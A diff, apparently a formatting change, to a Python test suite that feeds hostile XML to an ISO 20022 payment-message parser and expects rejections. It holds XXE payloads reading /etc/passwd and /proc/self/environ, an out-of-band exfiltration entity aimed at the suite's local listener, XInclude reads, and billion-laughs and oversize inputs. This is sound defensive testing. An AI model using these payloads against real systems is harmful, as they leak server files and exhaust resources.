@@ -6,6 +6,7 @@ An expectation is "ACSC" (the input is really a valid message, e.g. a harmless m
 (`build(env)`), so each gets fresh ids and today's dates, and URL entities point at the
 suite's own listener (`env.exfil_url`), which must never be called.
 """
+
 from __future__ import annotations
 
 import base64
@@ -14,11 +15,10 @@ import json
 import random
 import uuid
 import zlib
+from collections.abc import Callable
 from dataclasses import dataclass, field
-from typing import Callable
 
-from tests.hostile.messages import (CANARY, CANARY_DEBTOR_IBAN, DROP, bah, day_offset, pacs008,
-                                    wrap)
+from tests.hostile.messages import CANARY, CANARY_DEBTOR_IBAN, DROP, bah, day_offset, pacs008, wrap
 
 MIB = 1024 * 1024
 FF01 = "RJCT:FF01"
@@ -26,7 +26,7 @@ FF01 = "RJCT:FF01"
 
 @dataclass(frozen=True)
 class Env:
-    exfil_url: str   # http://127.0.0.1:<port>/<token>: any request to it is a failure
+    exfil_url: str  # http://127.0.0.1:<port>/<token>: any request to it is a failure
 
 
 @dataclass(frozen=True)
@@ -36,7 +36,7 @@ class Case:
     expect: str
     content_type: str | None = "application/xml"
     headers: dict = field(default_factory=dict)
-    bug: str | None = None   # a known product bug: the case is expected to fail until fixed
+    bug: str | None = None  # a known product bug: the case is expected to fail until fixed
 
 
 CASES: list[Case] = []
@@ -56,6 +56,7 @@ def with_prolog(prolog: bytes | Callable[[Env], bytes]) -> Callable[[Env], bytes
     def build(env: Env) -> bytes:
         head = prolog(env) if callable(prolog) else prolog
         return b'<?xml version="1.0" encoding="UTF-8"?>\n' + head + b"\n" + _doc_body(pacs008())
+
     return build
 
 
@@ -65,14 +66,18 @@ XXE = {
     "xxe-file-etc-passwd": lambda e: b'<!DOCTYPE Document [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
     "xxe-file-proc-environ": lambda e: b'<!DOCTYPE Document [<!ENTITY x SYSTEM "file:///proc/self/environ">]>',
     "xxe-url-entity": lambda e: b'<!DOCTYPE Document [<!ENTITY x SYSTEM "' + e.exfil_url.encode() + b'/entity">]>',
-    "xxe-public-url-entity": lambda e: b'<!DOCTYPE Document [<!ENTITY x PUBLIC "-//X//Y" "' + e.exfil_url.encode() + b'/public">]>',
+    "xxe-public-url-entity": lambda e: (
+        b'<!DOCTYPE Document [<!ENTITY x PUBLIC "-//X//Y" "' + e.exfil_url.encode() + b'/public">]>'
+    ),
     "xxe-external-dtd": lambda e: b'<!DOCTYPE Document SYSTEM "' + e.exfil_url.encode() + b'/dtd">',
     "xxe-external-dtd-file": lambda e: b'<!DOCTYPE Document SYSTEM "file:///etc/hostname">',
-    "xxe-parameter-entity": lambda e: (b'<!DOCTYPE Document [<!ENTITY % p SYSTEM "' + e.exfil_url.encode()
-                                       + b'/param"> %p;]>'),
-    "xxe-oob-exfil": lambda e: (b'<!DOCTYPE Document [<!ENTITY % f SYSTEM "file:///etc/passwd">'
-                                b'<!ENTITY % d "<!ENTITY &#x25; x SYSTEM \'' + e.exfil_url.encode()
-                                + b'/?%f;\'>"> %d; %x;]>'),
+    "xxe-parameter-entity": lambda e: (
+        b'<!DOCTYPE Document [<!ENTITY % p SYSTEM "' + e.exfil_url.encode() + b'/param"> %p;]>'
+    ),
+    "xxe-oob-exfil": lambda e: (
+        b'<!DOCTYPE Document [<!ENTITY % f SYSTEM "file:///etc/passwd">'
+        b"<!ENTITY % d \"<!ENTITY &#x25; x SYSTEM '" + e.exfil_url.encode() + b"/?%f;'>\"> %d; %x;]>"
+    ),
     "xxe-utf8-bom-before-doctype": lambda e: b'<!DOCTYPE Document [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
 }
 for _name, _prolog in XXE.items():
@@ -87,63 +92,147 @@ def _entity_in_msg_id(env: Env, decl: bytes) -> bytes:
     return b'<?xml version="1.0" encoding="UTF-8"?>\n' + decl + b"\n" + _doc_body(msg)
 
 
-case("xxe-file-entity-used-in-msgid", FF01,
-     lambda e: _entity_in_msg_id(e, b'<!DOCTYPE Document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'))
-case("xxe-url-entity-used-in-name", FF01,
-     lambda e: b'<?xml version="1.0"?>\n<!DOCTYPE Document [<!ENTITY x SYSTEM "' + e.exfil_url.encode()
-     + b'/nm">]>\n' + _doc_body(pacs008(debtor_name=b"&x;")))
+case(
+    "xxe-file-entity-used-in-msgid",
+    FF01,
+    lambda e: _entity_in_msg_id(e, b'<!DOCTYPE Document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
+)
+case(
+    "xxe-url-entity-used-in-name",
+    FF01,
+    lambda e: (
+        b'<?xml version="1.0"?>\n<!DOCTYPE Document [<!ENTITY x SYSTEM "'
+        + e.exfil_url.encode()
+        + b'/nm">]>\n'
+        + _doc_body(pacs008(debtor_name=b"&x;"))
+    ),
+)
 case("xxe-doctype-lowercase", FF01, with_prolog(b'<!doctype Document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'))
-case("xxe-doctype-after-root", FF01,
-     lambda e: pacs008() + b'<!DOCTYPE Document [<!ENTITY x SYSTEM "file:///etc/passwd">]>')
-case("xxe-doctype-in-envelope", FF01,
-     lambda e: b'<!DOCTYPE Envelope [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
-     + bah(pacs008(msg_id=b"&x;")))
-case("xxe-utf16-doctype", FF01,
-     lambda e: ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE Document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
-                + _doc_body(pacs008()).decode()).encode("utf-16"))
-case("xxe-utf7-doctype", FF01,
-     lambda e: b'<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE Document +AFs-+ADw-!ENTITY x SYSTEM '
-     b'+ACI-file:///etc/passwd+ACI-+AD4-+AF0-+AD4-' + _doc_body(pacs008()))
-case("xinclude-file", FF01,
-     lambda e: pacs008(debtor_name=b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'))
-case("xinclude-url", FF01,
-     lambda e: pacs008(remittance=b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="'
-                       + e.exfil_url.encode() + b'/xi"/>'))
+case(
+    "xxe-doctype-after-root",
+    FF01,
+    lambda e: pacs008() + b'<!DOCTYPE Document [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
+)
+case(
+    "xxe-doctype-in-envelope",
+    FF01,
+    lambda e: b'<!DOCTYPE Envelope [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + bah(pacs008(msg_id=b"&x;")),
+)
+case(
+    "xxe-utf16-doctype",
+    FF01,
+    lambda e: (
+        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE Document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+        + _doc_body(pacs008()).decode()
+    ).encode("utf-16"),
+)
+case(
+    "xxe-utf7-doctype",
+    FF01,
+    lambda e: (
+        b'<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE Document +AFs-+ADw-!ENTITY x SYSTEM '
+        b"+ACI-file:///etc/passwd+ACI-+AD4-+AF0-+AD4-" + _doc_body(pacs008())
+    ),
+)
+case(
+    "xinclude-file",
+    FF01,
+    lambda e: pacs008(
+        debtor_name=b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
+    ),
+)
+case(
+    "xinclude-url",
+    FF01,
+    lambda e: pacs008(
+        remittance=b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="' + e.exfil_url.encode() + b'/xi"/>'
+    ),
+)
 # harmless for a parser that fetches nothing: valid messages carrying references to elsewhere
-case("schemalocation-url", "ACSC",
-     lambda e: pacs008().replace(b'pacs.008.001.08">', b'pacs.008.001.08" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
-                                 b'xsi:schemaLocation="urn:iso:std:iso:20022:tech:xsd:pacs.008.001.08 '
-                                 + e.exfil_url.encode() + b'/xsd">', 1))
-case("stylesheet-pi-url", "ACSC",
-     with_prolog(lambda e: b'<?xml-stylesheet type="text/xsl" href="' + e.exfil_url.encode() + b'/xsl"?>'))
+case(
+    "schemalocation-url",
+    "ACSC",
+    lambda e: pacs008().replace(
+        b'pacs.008.001.08">',
+        b'pacs.008.001.08" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
+        b'xsi:schemaLocation="urn:iso:std:iso:20022:tech:xsd:pacs.008.001.08 ' + e.exfil_url.encode() + b'/xsd">',
+        1,
+    ),
+)
+case(
+    "stylesheet-pi-url",
+    "ACSC",
+    with_prolog(lambda e: b'<?xml-stylesheet type="text/xsl" href="' + e.exfil_url.encode() + b'/xsl"?>'),
+)
 
 # -- entity expansion: billion laughs, quadratic blow-up, undeclared entities ---------------
 
 _LOL = b'<!ENTITY lol0 "lol">' + b"".join(
-    b'<!ENTITY lol%d "%s">' % (i, b"&lol%d;" % (i - 1) * 10) for i in range(1, 10))
-case("billion-laughs", FF01, lambda e: b'<?xml version="1.0"?><!DOCTYPE Document [' + _LOL + b']>'
-     + _doc_body(pacs008(debtor_name=b"&lol9;")))
-case("billion-laughs-in-attribute", FF01, lambda e: b'<?xml version="1.0"?><!DOCTYPE Document [' + _LOL + b']>'
-     + _doc_body(pacs008(currency=b"&lol9;")))
-case("billion-laughs-parameter-entities", FF01,
-     lambda e: b'<?xml version="1.0"?><!DOCTYPE Document [<!ENTITY % a "x"><!ENTITY % b "%a;%a;%a;%a;%a;%a;%a;%a;">'
-     b'<!ENTITY % c "%b;%b;%b;%b;%b;%b;%b;%b;">%c;]>' + _doc_body(pacs008()))
+    b'<!ENTITY lol%d "%s">' % (i, b"&lol%d;" % (i - 1) * 10) for i in range(1, 10)
+)
+case(
+    "billion-laughs",
+    FF01,
+    lambda e: b'<?xml version="1.0"?><!DOCTYPE Document [' + _LOL + b"]>" + _doc_body(pacs008(debtor_name=b"&lol9;")),
+)
+case(
+    "billion-laughs-in-attribute",
+    FF01,
+    lambda e: b'<?xml version="1.0"?><!DOCTYPE Document [' + _LOL + b"]>" + _doc_body(pacs008(currency=b"&lol9;")),
+)
+case(
+    "billion-laughs-parameter-entities",
+    FF01,
+    lambda e: (
+        b'<?xml version="1.0"?><!DOCTYPE Document [<!ENTITY % a "x"><!ENTITY % b "%a;%a;%a;%a;%a;%a;%a;%a;">'
+        b'<!ENTITY % c "%b;%b;%b;%b;%b;%b;%b;%b;">%c;]>' + _doc_body(pacs008())
+    ),
+)
 _BIG = b"A" * 50_000
-case("quadratic-blowup", FF01, lambda e: b'<?xml version="1.0"?><!DOCTYPE Document [<!ENTITY a "' + _BIG + b'">]>'
-     + _doc_body(pacs008(remittance=b"&a;" * 15_000)))
-case("quadratic-blowup-attribute", FF01, lambda e: b'<?xml version="1.0"?><!DOCTYPE Document [<!ENTITY a "' + _BIG + b'">]>'
-     + _doc_body(pacs008(currency=b"&a;" * 15_000)))
+case(
+    "quadratic-blowup",
+    FF01,
+    lambda e: (
+        b'<?xml version="1.0"?><!DOCTYPE Document [<!ENTITY a "'
+        + _BIG
+        + b'">]>'
+        + _doc_body(pacs008(remittance=b"&a;" * 15_000))
+    ),
+)
+case(
+    "quadratic-blowup-attribute",
+    FF01,
+    lambda e: (
+        b'<?xml version="1.0"?><!DOCTYPE Document [<!ENTITY a "'
+        + _BIG
+        + b'">]>'
+        + _doc_body(pacs008(currency=b"&a;" * 15_000))
+    ),
+)
 case("undeclared-entity-no-dtd", FF01, lambda e: pacs008(debtor_name=b"&lol9;"))
 case("undeclared-entity-in-attribute", FF01, lambda e: pacs008(currency=b"&xxe;"))
-case("dtd-internal-only-harmless", FF01, with_prolog(b'<!DOCTYPE Document [<!ELEMENT Document ANY>]>'))
+case("dtd-internal-only-harmless", FF01, with_prolog(b"<!DOCTYPE Document [<!ELEMENT Document ANY>]>"))
 case("dtd-empty", FF01, with_prolog(b"<!DOCTYPE Document>"))
-case("dtd-public-id", FF01, with_prolog(b'<!DOCTYPE Document PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">'))
+case(
+    "dtd-public-id",
+    FF01,
+    with_prolog(
+        b'<!DOCTYPE Document PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">'
+    ),
+)
 case("dtd-attlist-default-attr", FF01, with_prolog(b'<!DOCTYPE Document [<!ATTLIST Document injected CDATA "x">]>'))
-case("dtd-notation-unparsed-entity", FF01,
-     with_prolog(b'<!DOCTYPE Document [<!NOTATION n SYSTEM "file:///bin/sh"><!ENTITY u SYSTEM "file:///x" NDATA n>]>'))
+case(
+    "dtd-notation-unparsed-entity",
+    FF01,
+    with_prolog(b'<!DOCTYPE Document [<!NOTATION n SYSTEM "file:///bin/sh"><!ENTITY u SYSTEM "file:///x" NDATA n>]>'),
+)
 case("many-char-refs", FF01, lambda e: pacs008(remittance=b"&#65;" * 200_000))  # 1 MB of refs, too long for Ustrd
 case("char-refs-valid-short", "ACSC", lambda e: pacs008(remittance=b"&#72;&#x53;&#84;-" + CANARY.encode()))
-case("predefined-entities-in-msgid", "ACSC", lambda e: pacs008(msg_id=b"&amp;&lt;&gt;&quot;&apos;" + uuid.uuid4().hex[:8].encode()))
+case(
+    "predefined-entities-in-msgid",
+    "ACSC",
+    lambda e: pacs008(msg_id=b"&amp;&lt;&gt;&quot;&apos;" + uuid.uuid4().hex[:8].encode()),
+)
 
 # -- size: 10 MB, just over and exactly at the limit ---------------------------------------
 
@@ -151,33 +240,54 @@ case("10mb-body", "413:MESSAGE_TOO_LARGE", lambda e: b"<a>" + b"x" * (10 * MIB) 
 case("10mb-valid-message-padded", "413:MESSAGE_TOO_LARGE", lambda e: pacs008() + b" " * (10 * MIB))
 case("1mib-plus-one", "413:MESSAGE_TOO_LARGE", lambda e: pacs008().ljust(MIB + 1, b" "))
 case("1mib-exactly-valid-padded", "ACSC", lambda e: pacs008().ljust(MIB, b"\n"))
-case("1mib-exactly-comment-padded", "ACSC",
-     lambda e: (lambda m: m + b"<!--" + b"c" * (MIB - len(m) - 7) + b"-->")(pacs008()))
-case("10mb-binary-octet-stream", "413:MESSAGE_TOO_LARGE",
-     lambda e: random.Random(1).randbytes(10 * MIB), content_type="application/octet-stream")
+case(
+    "1mib-exactly-comment-padded",
+    "ACSC",
+    lambda e: (lambda m: m + b"<!--" + b"c" * (MIB - len(m) - 7) + b"-->")(pacs008()),
+)
+case(
+    "10mb-binary-octet-stream",
+    "413:MESSAGE_TOO_LARGE",
+    lambda e: random.Random(1).randbytes(10 * MIB),
+    content_type="application/octet-stream",
+)
 case("empty-body", "400:EMPTY_BODY", b"")
 case("one-byte-body", FF01, b"<")
 case("whitespace-only-body", FF01, b" \r\n\t  \n")
 case("nul-only-body", FF01, b"\x00")
 case("huge-text-node-900k", FF01, lambda e: pacs008(remittance="R" * 900_000))
 case("huge-attribute-900k", FF01, lambda e: pacs008(currency="E" * 900_000))
-case("100k-attributes", FF01,
-     lambda e: pacs008().replace(b'pacs.008.001.08">', b'pacs.008.001.08" ' + b" ".join(b'a%d="1"' % i for i in range(90_000)) + b">", 1))
-case("10k-namespace-declarations", "ACSC",
-     lambda e: pacs008().replace(b'pacs.008.001.08">', b'pacs.008.001.08" ' + b" ".join(b'xmlns:p%d="urn:x:%d"' % (i, i) for i in range(10_000)) + b">", 1))
+case(
+    "100k-attributes",
+    FF01,
+    lambda e: pacs008().replace(
+        b'pacs.008.001.08">', b'pacs.008.001.08" ' + b" ".join(b'a%d="1"' % i for i in range(90_000)) + b">", 1
+    ),
+)
+case(
+    "10k-namespace-declarations",
+    "ACSC",
+    lambda e: pacs008().replace(
+        b'pacs.008.001.08">',
+        b'pacs.008.001.08" ' + b" ".join(b'xmlns:p%d="urn:x:%d"' % (i, i) for i in range(10_000)) + b">",
+        1,
+    ),
+)
 case("100k-sibling-elements", FF01, lambda e: pacs008(remittance=b"<a/>" * 100_000))
-case("10k-transactions", FF01, lambda e: pacs008().replace(b"</CdtTrfTxInf>", b"</CdtTrfTxInf>" + b"<CdtTrfTxInf/>" * 10_000, 1))
+case(
+    "10k-transactions",
+    FF01,
+    lambda e: pacs008().replace(b"</CdtTrfTxInf>", b"</CdtTrfTxInf>" + b"<CdtTrfTxInf/>" * 10_000, 1),
+)
 
 # -- nesting depth ------------------------------------------------------------------------
 
 case("10000-deep-nesting", FF01, b"<a>" * 10_000 + b"</a>" * 10_000)
 case("10000-deep-inside-document", FF01, lambda e: pacs008(remittance=b"<a>" * 10_000 + b"</a>" * 10_000))
-case("10000-deep-wrappers-around-document", FF01,
-     lambda e: wrap(pacs008(), b"<w>" * 10_000, b"</w>" * 10_000))
+case("10000-deep-wrappers-around-document", FF01, lambda e: wrap(pacs008(), b"<w>" * 10_000, b"</w>" * 10_000))
 case("101-deep-nesting", FF01, b"<a>" * 101 + b"</a>" * 101)
 case("260-deep-nesting", FF01, b"<a>" * 260 + b"</a>" * 260)
-case("deep-ns-nesting", FF01,
-     lambda e: b"".join(b'<a xmlns="urn:x:%d">' % i for i in range(5000)) + b"</a>" * 5000)
+case("deep-ns-nesting", FF01, lambda e: b"".join(b'<a xmlns="urn:x:%d">' % i for i in range(5000)) + b"</a>" * 5000)
 case("document-5-wrappers-deep", FF01, lambda e: wrap(pacs008(), b"<a><b><c><d><e>", b"</e></d></c></b></a>"))
 case("document-3-wrappers-deep", "ACSC", lambda e: wrap(pacs008(), b"<a><b><c>", b"</c></b></a>"))
 
@@ -206,18 +316,27 @@ INVALID_UTF8 = {
 BYTES = "application/octet-stream"
 EXACT_OR_REPLACED = f"{FF01}|ACSC"
 for _name, _raw in INVALID_UTF8.items():
-    case(f"utf8-{_name}-in-debtor-name", EXACT_OR_REPLACED,
-         lambda e, r=_raw: pacs008(debtor_name=CANARY.encode() + r), content_type=BYTES)
+    case(
+        f"utf8-{_name}-in-debtor-name",
+        EXACT_OR_REPLACED,
+        lambda e, r=_raw: pacs008(debtor_name=CANARY.encode() + r),
+        content_type=BYTES,
+    )
 case("utf8-invalid-in-tag-name", FF01, lambda e: pacs008(remittance=b"<R\xc0\xafx/>"), content_type=BYTES)
 case("utf8-invalid-in-attribute", FF01, lambda e: pacs008(currency=b"EU\xff"), content_type=BYTES)
 case("utf8-invalid-in-msgid", EXACT_OR_REPLACED, lambda e: pacs008(msg_id=b"ID\xed\xa0\x80"), content_type=BYTES)
 case("utf8-bom-valid", "ACSC", lambda e: b"\xef\xbb\xbf" + pacs008())
 case("utf8-double-bom", FF01, lambda e: b"\xef\xbb\xbf\xef\xbb\xbf" + pacs008())
-case("utf16le-with-bom", FF01, lambda e: b"\xff\xfe" + pacs008().decode().replace("UTF-8", "UTF-16").encode("utf-16-le"))
+case(
+    "utf16le-with-bom", FF01, lambda e: b"\xff\xfe" + pacs008().decode().replace("UTF-8", "UTF-16").encode("utf-16-le")
+)
 case("utf16be-no-bom", FF01, lambda e: pacs008().decode().replace("UTF-8", "UTF-16").encode("utf-16-be"))
 case("utf32", FF01, lambda e: pacs008().decode().replace("UTF-8", "UTF-32").encode("utf-32"))
-case("latin1-declared-latin1-bytes", FF01,
-     lambda e: pacs008(debtor_name=b"M\xfcller " + CANARY.encode()).replace(b"UTF-8", b"ISO-8859-1", 1))
+case(
+    "latin1-declared-latin1-bytes",
+    FF01,
+    lambda e: pacs008(debtor_name=b"M\xfcller " + CANARY.encode()).replace(b"UTF-8", b"ISO-8859-1", 1),
+)
 # A declared encoding other than UTF-8 is refused: a reader honouring it would see other
 # characters than the ones validated.
 case("ebcdic-declared", FF01, lambda e: pacs008().replace(b"UTF-8", b"EBCDIC-US", 1))
@@ -231,10 +350,14 @@ case("noncharacter-fffe-raw", FF01, lambda e: pacs008(debtor_name=b"A\xef\xbf\xb
 case("noncharacter-fffe-ref", FF01, lambda e: pacs008(debtor_name=b"A&#xFFFE;B"))
 case("char-ref-above-10ffff", FF01, lambda e: pacs008(debtor_name=b"A&#x110000;B"))
 case("char-ref-surrogate", FF01, lambda e: pacs008(debtor_name=b"A&#xD800;B"))
-case("xml11-declared-control-char-ref", FF01,
-     lambda e: pacs008(debtor_name=b"A&#x1;B").replace(b'version="1.0"', b'version="1.1"', 1))
+case(
+    "xml11-declared-control-char-ref",
+    FF01,
+    lambda e: pacs008(debtor_name=b"A&#x1;B").replace(b'version="1.0"', b'version="1.1"', 1),
+)
 
 # -- namespaces ---------------------------------------------------------------------------
+
 
 def _ns(new: bytes) -> Callable[[Env], bytes]:
     return lambda e: pacs008().replace(b'xmlns="urn:iso:std:iso:20022:tech:xsd:pacs.008.001.08"', new, 1)
@@ -249,31 +372,71 @@ case("ns-camt056", FF01, _ns(b'xmlns="urn:iso:std:iso:20022:tech:xsd:camt.056.00
 case("ns-head-as-document", FF01, _ns(b'xmlns="urn:iso:std:iso:20022:tech:xsd:head.001.001.02"'))
 case("ns-uppercase-urn", FF01, _ns(b'xmlns="URN:ISO:STD:ISO:20022:TECH:XSD:PACS.008.001.08"'))
 case("ns-trailing-space", FF01, _ns(b'xmlns="urn:iso:std:iso:20022:tech:xsd:pacs.008.001.08 "'))
-case("ns-prefix-only-root", FF01,
-     lambda e: pacs008().replace(b'<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pacs.008.001.08">',
-                                 b'<d:Document xmlns:d="urn:iso:std:iso:20022:tech:xsd:pacs.008.001.08">', 1)
-     .replace(b"</Document>", b"</d:Document>"))
-case("ns-prefixed-everywhere", "ACSC",
-     lambda e: __import__("re").sub(rb"<(/?)([A-Za-z]+)([ >])", rb"<\1p:\2\3", pacs008())
-     .replace(b'<p:Document xmlns=', b'<p:Document xmlns:p=', 1))
+case(
+    "ns-prefix-only-root",
+    FF01,
+    lambda e: (
+        pacs008()
+        .replace(
+            b'<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pacs.008.001.08">',
+            b'<d:Document xmlns:d="urn:iso:std:iso:20022:tech:xsd:pacs.008.001.08">',
+            1,
+        )
+        .replace(b"</Document>", b"</d:Document>")
+    ),
+)
+case(
+    "ns-prefixed-everywhere",
+    "ACSC",
+    lambda e: (
+        __import__("re")
+        .sub(rb"<(/?)([A-Za-z]+)([ >])", rb"<\1p:\2\3", pacs008())
+        .replace(b"<p:Document xmlns=", b"<p:Document xmlns:p=", 1)
+    ),
+)
 case("ns-undeclared-prefix", FF01, lambda e: pacs008(remittance=b"<q:R>x</q:R>"))
 case("ns-xmlns-prefix-rebinding", FF01, lambda e: pacs008(remittance=b'<R xmlns:xml="urn:evil">x</R>'))
 case("ns-foreign-element-inside", FF01, lambda e: pacs008(remittance=b'<Ustrd xmlns="urn:evil">x</Ustrd>'))
-case("ns-two-documents-in-envelope", FF01,
-     lambda e: b"<Env>" + _doc_body(pacs008()) + _doc_body(pacs008()) + b"</Env>")
-case("ns-two-versions-in-envelope", FF01,
-     lambda e: b"<Env>" + _doc_body(pacs008()) + _doc_body(_ns(b'xmlns="urn:iso:std:iso:20022:tech:xsd:pacs.008.001.09"')(e)) + b"</Env>")
-case("ns-apphdr-only", FF01,
-     lambda e: bah(pacs008()).split(b"<Document")[0] + b"</Envelope>")
-case("ns-soap-envelope", "ACSC",
-     lambda e: wrap(pacs008(), b'<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>',
-                    b"</soap:Body></soap:Envelope>"))
-case("ns-fake-iso-namespace-wrapper", FF01,
-     lambda e: wrap(pacs008(), b'<W xmlns="urn:iso:std:iso:20022:tech:xsd:evil">', b"</W>"))
-case("ns-message-element-outside-document", "ACSC",
-     lambda e: b"<Wrapper>" + _doc_body(pacs008()).split(b">", 1)[1].rsplit(b"</Document>", 1)[0]
-     .replace(b"<FIToFICstmrCdtTrf>", b'<FIToFICstmrCdtTrf xmlns="urn:iso:std:iso:20022:tech:xsd:pacs.008.001.08">', 1)
-     + b"</Wrapper>")
+case("ns-two-documents-in-envelope", FF01, lambda e: b"<Env>" + _doc_body(pacs008()) + _doc_body(pacs008()) + b"</Env>")
+case(
+    "ns-two-versions-in-envelope",
+    FF01,
+    lambda e: (
+        b"<Env>"
+        + _doc_body(pacs008())
+        + _doc_body(_ns(b'xmlns="urn:iso:std:iso:20022:tech:xsd:pacs.008.001.09"')(e))
+        + b"</Env>"
+    ),
+)
+case("ns-apphdr-only", FF01, lambda e: bah(pacs008()).split(b"<Document")[0] + b"</Envelope>")
+case(
+    "ns-soap-envelope",
+    "ACSC",
+    lambda e: wrap(
+        pacs008(),
+        b'<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>',
+        b"</soap:Body></soap:Envelope>",
+    ),
+)
+case(
+    "ns-fake-iso-namespace-wrapper",
+    FF01,
+    lambda e: wrap(pacs008(), b'<W xmlns="urn:iso:std:iso:20022:tech:xsd:evil">', b"</W>"),
+)
+case(
+    "ns-message-element-outside-document",
+    "ACSC",
+    lambda e: (
+        b"<Wrapper>"
+        + _doc_body(pacs008())
+        .split(b">", 1)[1]
+        .rsplit(b"</Document>", 1)[0]
+        .replace(
+            b"<FIToFICstmrCdtTrf>", b'<FIToFICstmrCdtTrf xmlns="urn:iso:std:iso:20022:tech:xsd:pacs.008.001.08">', 1
+        )
+        + b"</Wrapper>"
+    ),
+)
 
 # -- non-XML bodies -----------------------------------------------------------------------
 
@@ -287,8 +450,10 @@ NON_XML = {
     "yaml": b"MsgId: X\nAmt: 1234.56\n",
     "html": b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
     "html-no-doctype": b"<html><body><script>alert(1)</script></body></html>",
-    "mt103": (b"{1:F01DEUTDEFFAXXX0000000000}{2:I103BNPAFRPPXXXXN}{4:\r\n:20:REF\r\n:32A:260415EUR1234,56\r\n"
-              b":50K:/" + CANARY_DEBTOR_IBAN.encode() + b"\r\n-}"),
+    "mt103": (
+        b"{1:F01DEUTDEFFAXXX0000000000}{2:I103BNPAFRPPXXXXN}{4:\r\n:20:REF\r\n:32A:260415EUR1234,56\r\n"
+        b":50K:/" + CANARY_DEBTOR_IBAN.encode() + b"\r\n-}"
+    ),
     "base64-of-message": lambda e: base64.b64encode(pacs008()),
     "gzip-of-message": lambda e: gzip.compress(pacs008()),
     "zlib-of-message": lambda e: zlib.compress(pacs008()),
@@ -369,7 +534,12 @@ FIELD_CASES: list[tuple[str, str, object, str]] = [
     ("uetr-100-chars", "uetr", "a" * 100, FF01),
     ("uetr-empty", "uetr", "", FF01),
     ("uetr-padded", "uetr", lambda: f" {uuid.uuid4()} ", FF01),
-    ("uetr-fullwidth-digits", "uetr", lambda: str(uuid.uuid4()).translate(str.maketrans("0123456789", "０１２３４５６７８９")), FF01),
+    (
+        "uetr-fullwidth-digits",
+        "uetr",
+        lambda: str(uuid.uuid4()).translate(str.maketrans("0123456789", "０１２３４５６７８９")),
+        FF01,
+    ),
     ("uetr-missing", "uetr", DROP, "ACSC"),
     ("amount-100-digits", "amount", "9" * 100, FF01),
     ("amount-100-digits-decimals", "amount", "1" * 50 + "." + "1" * 50, FF01),
@@ -476,28 +646,67 @@ FIELD_CASES: list[tuple[str, str, object, str]] = [
     ("street-71-chars", "debtor_street", CANARY + "S" * 71, FF01),
 ]
 for _name, _field, _value, _expect in FIELD_CASES:
-    case(f"field-{_name}", _expect,
-         lambda e, f=_field, v=_value: pacs008(**{f: v() if callable(v) else v}))
+    case(f"field-{_name}", _expect, lambda e, f=_field, v=_value: pacs008(**{f: v() if callable(v) else v}))
 
 # -- structure and envelopes ---------------------------------------------------------------
 
-case("struct-duplicate-grphdr", FF01,
-     lambda e: (lambda m: m.replace(b"</GrpHdr>", b"</GrpHdr>" + m.split(b"<GrpHdr>")[1].split(b"</GrpHdr>")[0].join([b"<GrpHdr>", b"</GrpHdr>"]), 1))(pacs008()))
-case("struct-two-transactions", "PART:DUPL",
-     lambda e: (lambda m: m.replace(b"</CdtTrfTxInf>", b"</CdtTrfTxInf><CdtTrfTxInf>"
-                                    + m.split(b"<CdtTrfTxInf>")[1].split(b"</CdtTrfTxInf>")[0] + b"</CdtTrfTxInf>", 1)
-                )(pacs008(nb_of_txs="2")))
-case("struct-no-transaction", FF01,
-     lambda e: (lambda m: m.split(b"<CdtTrfTxInf>")[0] + b"</FIToFICstmrCdtTrf></Document>")(pacs008()))
+case(
+    "struct-duplicate-grphdr",
+    FF01,
+    lambda e: (
+        lambda m: m.replace(
+            b"</GrpHdr>",
+            b"</GrpHdr>" + m.split(b"<GrpHdr>")[1].split(b"</GrpHdr>")[0].join([b"<GrpHdr>", b"</GrpHdr>"]),
+            1,
+        )
+    )(pacs008()),
+)
+case(
+    "struct-two-transactions",
+    "PART:DUPL",
+    lambda e: (
+        lambda m: m.replace(
+            b"</CdtTrfTxInf>",
+            b"</CdtTrfTxInf><CdtTrfTxInf>"
+            + m.split(b"<CdtTrfTxInf>")[1].split(b"</CdtTrfTxInf>")[0]
+            + b"</CdtTrfTxInf>",
+            1,
+        )
+    )(pacs008(nb_of_txs="2")),
+)
+case(
+    "struct-no-transaction",
+    FF01,
+    lambda e: (lambda m: m.split(b"<CdtTrfTxInf>")[0] + b"</FIToFICstmrCdtTrf></Document>")(pacs008()),
+)
 case("struct-unknown-element", FF01, lambda e: pacs008().replace(b"</GrpHdr>", b"<Evil>1</Evil></GrpHdr>", 1))
-case("struct-swapped-order", FF01,
-     lambda e: (lambda m: m.replace(b"<ChrgBr>SHAR</ChrgBr>\n", b"", 1).replace(b"<IntrBkSttlmAmt", b"<ChrgBr>SHAR</ChrgBr>\n<IntrBkSttlmAmt", 1))(pacs008()))
+case(
+    "struct-swapped-order",
+    FF01,
+    lambda e: (
+        lambda m: m.replace(b"<ChrgBr>SHAR</ChrgBr>\n", b"", 1).replace(
